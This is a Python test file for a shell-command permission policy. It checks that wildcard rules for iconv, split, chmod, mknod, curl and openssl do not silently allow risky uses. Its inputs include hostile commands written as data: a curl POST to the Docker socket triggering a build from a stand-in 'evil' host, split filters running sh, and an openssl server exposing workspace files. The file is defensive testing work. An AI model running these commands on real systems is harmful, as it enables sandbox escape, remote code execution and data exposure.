"""Shapes from a shell-rules review of stop 56 (after F170): F171, programs whose options or
operands write, run, connect or serve where a rule for the program (`iconv *`, `split *`,
`chmod *`, `mknod *`, `curl *`, `openssl *`) does not name it.

Seen in the bubblewrap sandbox (tests/shell_oracle/sandbox.py, bash, glibc iconv, GNU
coreutils 9.1, curl 7.88, OpenSSL 3.0):
- `iconv -f utf8 -t ascii -o /tmp/fbx-iconv notes.txt`, `iconv --out /tmp/fbx-iconv2
  notes.txt` (argp's abbreviation) and `iconv -co/tmp/fbx-iconv3 notes.txt` (a cluster)
  each wrote the file in /tmp.
- `split notes.txt /tmp/fbx-split` wrote /tmp/fbx-splitaa (the second operand is the
  pieces' prefix); `split --filter='touch /tmp/fbx-filter' notes.txt` ran
  `bash -c 'touch /tmp/fbx-filter'`. (`--additional-suffix=/../../tmp/x` is refused: "contains
  directory separator".)
- `chmod --reference=notes.txt /tmp/t` re-moded /tmp/t (fchmodat; 600 -> 644), `chown
  --reference=notes.txt /tmp` and `chgrp --reference=notes.txt /tmp` chowned /tmp: with
  `--reference` there is no MODE (OWNER) operand, every operand is a file changed.
- `mknod /tmp/fbx-fifo p` made the FIFO in /tmp (mknodat); `mknod /tmp/n c 1 3` was refused
  there only for want of CAP_MKNOD (EPERM).
- `curl -s --unix-socket /workspace/d.sock -X POST 'http://x/build?remote=http://evil/x'`
  connected to the AF_UNIX socket and sent the POST to whatever listens there (a listener
  printed it): on /var/run/docker.sock the docker daemon builds what `remote` holds.
- `openssl s_server -accept 43011 -cert c.pem -key k.pem -WWW` listened on 0.0.0.0 and sent
  /workspace/notes.txt to a client's `GET /notes.txt`.
"""

import pytest

from governance.policy import Verdict
from tests.governance.policy.test_review_shell_30 import _verdict

ICONV_WRITES = [
    # seen: /tmp/fbx-iconv, /tmp/fbx-iconv2, /tmp/fbx-iconv3 written
    "iconv -f utf8 -t ascii -o /tmp/fbx-iconv notes.txt",
    "iconv --output=/tmp/x notes.txt",
    "iconv --out /tmp/x notes.txt",
    "iconv -c -o/tmp/x notes.txt",
    "iconv -co /tmp/x notes.txt",
    "iconv notes.txt -o /tmp/x",  # argp reads options after operands
]


@pytest.mark.parametrize("script", ICONV_WRITES)
def test_iconv_writes_the_file_its_output_option_names(script):
    assert _verdict(script, "iconv *") is not Verdict.ALWAYS


def test_iconv_converting_to_its_output_stays_allowed():
    assert _verdict("iconv -f latin1 -t utf8 notes.txt", "iconv *") is Verdict.ALWAYS
    assert _verdict("iconv -f latin1 -o out.txt notes.txt", "iconv *") is Verdict.ALWAYS


SPLIT_ACTS = [
    # seen: /tmp/fbx-splitaa written
    "split notes.txt /tmp/fbx-split",
    "split -l 1 notes.txt /tmp/p-",
    "split -b 1 -- notes.txt /tmp/p",
    # seen: bash -c 'touch /tmp/fbx-filter' ran
    "split --filter='touch /tmp/fbx-filter' notes.txt",
    "split --filter 'sh -c ls' notes.txt",
    "split --fi='sh' notes.txt",
]


@pytest.mark.parametrize("script", SPLIT_ACTS)
def test_split_writes_its_prefix_and_runs_its_filter(script):
    assert _verdict(script, "split *") is not Verdict.ALWAYS


def test_split_into_the_workspace_stays_allowed():
    assert _verdict("split -l 1 notes.txt parts/p-", "split *") is Verdict.ALWAYS
    assert _verdict("split notes.txt", "split *") is Verdict.ALWAYS


REFERENCE_CHANGES = [
    # seen: /tmp/t re-moded (fchmodat), /tmp chowned (fchownat)
    ("chmod --reference=notes.txt /tmp/t", "chmod *"),
    ("chmod --reference notes.txt /tmp/t", "chmod *"),
    ("chmod --ref=notes.txt /tmp/t", "chmod *"),
    ("chown --reference=notes.txt /tmp", "chown *"),
    ("chgrp --ref notes.txt /tmp", "chgrp *"),
]


@pytest.mark.parametrize("script, rule", REFERENCE_CHANGES)
def test_a_reference_takes_the_modes_place_every_operand_is_changed(script, rule):
    assert _verdict(script, rule) is not Verdict.ALWAYS


def test_mknod_makes_its_first_operand():
    # seen: /tmp/fbx-fifo made (mknodat)
    assert _verdict("mknod /tmp/fbx-fifo p", "mknod *") is not Verdict.ALWAYS
    assert _verdict("mknod -m 600 /tmp/n p", "mknod *") is not Verdict.ALWAYS
    assert _verdict("mknod fifo p", "mknod *") is Verdict.ALWAYS


@pytest.mark.parametrize(
    "script",
    [
        # seen: connect(AF_UNIX, "/workspace/d.sock"), the POST received by the listener
        "curl -s --unix-socket /var/run/docker.sock -X POST 'http://x/build?remote=http://e/x'",
        "curl --unix-socket /var/run/docker.sock http://x/containers/json",
        "curl --abstract-unix-socket x http://x/",
    ],
)
def test_curl_to_a_local_socket_is_a_send_the_rule_must_name(script):
    assert _verdict(script, "curl *") is not Verdict.ALWAYS


@pytest.mark.parametrize(
    "script",
    [
        # seen: listened on 0.0.0.0:43011 and served /workspace/notes.txt
        "openssl s_server -accept 43011 -cert c.pem -key k.pem -WWW",
        "openssl s_server -accept 4433",
        "openssl ocsp -port 8080 -index i.txt -CA c.pem -rsigner c.pem -rkey k.pem",
    ],
)
def test_openssl_servers_listen_where_the_rule_does_not_say(script):
    assert _verdict(script, "openssl *") is not Verdict.ALWAYS


def test_rules_naming_them_allow_them():
    assert _verdict("split --filter='gzip > $FILE.gz' notes.txt", "split --filter*") is (
        Verdict.ALWAYS
    )
    assert _verdict("openssl s_server -accept 4433", "openssl s_server *") is Verdict.ALWAYS
    assert _verdict("openssl x509 -in c.pem -noout -text", "openssl *") is Verdict.ALWAYS
